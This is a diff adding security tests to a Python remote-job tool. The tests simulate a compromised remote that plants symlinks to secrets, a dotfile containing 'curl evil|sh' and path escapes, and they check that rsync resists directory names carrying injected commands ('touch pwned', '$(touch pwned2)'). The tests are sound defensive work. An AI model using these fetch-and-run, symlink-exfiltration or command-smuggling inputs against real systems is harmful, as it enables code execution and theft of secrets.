@@ -195,3 +195,51 @@ def test_a_pipeline_sends_its_file_each_steps_config_and_code(laptop, tmp_path):
     (project / "train.yaml").write_text("run: {name: t}\ntrain: {max_steps: -1}\n")
     line = one_line_error(laptop.run(args, cwd=project))
     assert "step 'train'" in line and "train.max_steps" in line and len(list(incoming.parent.iterdir())) == 1
+
+
+COMPROMISED = r"""#!/bin/sh
+# A remote whose ddpjob was replaced: it answers the version check, and fills the report's folder with more than a
+# report: a symlink to a secret in the report's name, a dotfile, a folder, a name that climbs out.
+case "$1" in --version) exec {real} --version ;; esac
+for out; do :; done
+mkdir -p "$out/sub" && echo '<html>a report</html>' >"$out/report.html" && echo secret >"$HOME/secret.txt"
+ln -s "$HOME/secret.txt" "$out/report.png" && ln -s / "$out/trials.csv" && echo 'curl evil|sh' >"$out/.bashrc"
+echo x >"$out/sub/report.html" && echo "html: $out/report.html"
+"""
+
+
+def test_a_report_brings_back_only_its_own_files_from_a_compromised_remote(laptop, tmp_path):
+    """``ddpjob --host NAME report`` copies back the report's regular files by name, nothing else: no symlink (in a
+    report file's name or not), no dotfile, no folder, never a path outside ``--out``."""
+    fake = tmp_path / "remote" / "fake-ddpjob"
+    fake.write_text(COMPROMISED.replace("{real}", f"{sys.executable} -m jobs"))
+    fake.chmod(0o755)
+    laptop.host_file(laptop.cluster_entry(remote_dir=str(tmp_path / "remote"), ddpjob=str(fake)))
+    proc = laptop.run(["--host", "cluster", "report", "runs/x", "--out", "got"], cwd=tmp_path)
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    got = tmp_path / "got"
+    assert sorted(p.name for p in got.iterdir()) == ["report.html"], list(got.iterdir())
+    assert (got / "report.html").read_text() == "<html>a report</html>\n" and not (got / "report.html").is_symlink()
+
+
+def test_remote_paths_reach_rsync_whole_on_old_and_new_rsync(laptop, tmp_path, monkeypatch):
+    """A remote path with a space and shell syntax is one path on the far side: with --protect-args (rsync >= 3.0),
+    and quoted for the remote shell on an older rsync (2.6.9 has no such option; rsync 3.2.7's --old-args parses
+    the remote side's arguments as it did)."""
+    from jobs.remote.hosts import lookup
+    from jobs.remote.ssh import Gateway
+
+    for key, value in laptop.env.items():
+        monkeypatch.setenv(key, value)
+    weird = tmp_path / "remote" / "a b;touch pwned" / "$(touch pwned2)"
+    weird.mkdir(parents=True)
+    (weird / "f.txt").write_text("whole\n")
+    host = lookup("cluster")
+    for release, extra in (((3, 2, 7), []), ((2, 6, 9), ["--old-args"])):
+        into = tmp_path / f"into-{release[0]}"
+        into.mkdir()
+        gw = Gateway(host, interactive=False, rsync_version=release)
+        got = gw.rsync(f":{weird}/", f"{into}/", extra=extra)
+        assert got.returncode == 0, got.stderr
+        assert (into / "f.txt").read_text() == "whole\n"
+    assert not list(tmp_path.rglob("pwned*")) and not list(laptop.home.rglob("pwned*"))
